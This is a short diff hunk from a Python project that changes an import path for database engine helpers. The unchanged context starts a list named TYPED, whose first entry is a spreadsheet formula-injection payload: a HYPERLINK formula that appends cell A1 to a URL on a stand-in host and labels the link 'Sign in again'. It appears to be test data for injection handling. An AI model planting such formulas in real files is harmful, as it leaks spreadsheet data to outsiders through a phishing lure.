@@ -17,7 +17,7 @@ import sqlalchemy as sa
 from alembic import command
 from sqlalchemy.engine import Engine
 
-from xchange.db import alembic_config, make_engine
+from xchange.db.engine import alembic_config, make_engine
 
 TYPED = [
     '=HYPERLINK("http://example.invalid/?x="&A1,"Sign in again")',
